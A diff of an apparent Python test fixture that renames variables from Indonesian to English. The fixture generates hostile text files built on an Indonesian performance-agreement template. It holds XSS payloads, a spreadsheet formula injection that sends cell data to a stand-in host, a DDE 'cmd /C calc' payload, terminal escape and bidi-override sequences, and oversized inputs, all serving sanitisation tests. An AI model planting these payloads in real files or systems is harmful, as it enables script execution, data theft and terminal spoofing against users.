@@ -2,20 +2,20 @@
 
 from __future__ import annotations
 
-SKRIP = "<script>alert('musuh')</script><img src=x onerror=alert(1)>"
+SCRIPT = "<script>alert('musuh')</script><img src=x onerror=alert(1)>"
 FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"klik") @SUM(1+1) +cmd|\' /C calc\'!A0'
-LAYAR = "\x1b]0;judul musuh\x07\x1b[2J\x1b[31mmerah\x1b[0m \x9b31m \u202eterbalik\u202c \x00\x08\x7f"
+SCREEN = "\x1b]0;judul musuh\x07\x1b[2J\x1b[31mmerah\x1b[0m \x9b31m \u202eterbalik\u202c \x00\x08\x7f"
 
 
 def _pk() -> str:
-    baris = ["PERJANJIAN KINERJA TAHUN 2021", SKRIP, "", "Nama : " + SKRIP, "Jabatan : " + FORMULA, "", LAYAR]
-    return "\n".join([*baris, "No\tSasaran\tIndikator Kinerja\tTarget", f"1\t{SKRIP}\t{FORMULA}\t\x1b[31m12 %\x1b[0m"])
+    rows = ["PERJANJIAN KINERJA TAHUN 2021", SCRIPT, "", "Nama : " + SCRIPT, "Jabatan : " + FORMULA, "", SCREEN]
+    return "\n".join([*rows, "No\tSasaran\tIndikator Kinerja\tTarget", f"1\t{SCRIPT}\t{FORMULA}\t\x1b[31m12 %\x1b[0m"])
 
 
-def buat() -> dict[str, bytes]:
+def make() -> dict[str, bytes]:
     """The hostile text files by name."""
     return {
-        "skrip.txt": f"{SKRIP}\n{FORMULA}\n".encode(),
+        "skrip.txt": f"{SCRIPT}\n{FORMULA}\n".encode(),
         "layar.txt": f"{_pk()}\n".encode("utf-8", "surrogatepass").replace(b"\0", b""),
         "satu_baris.txt": b"x" * 3_000_000,
         "kata_banyak.txt": b"kata " * 400_000,
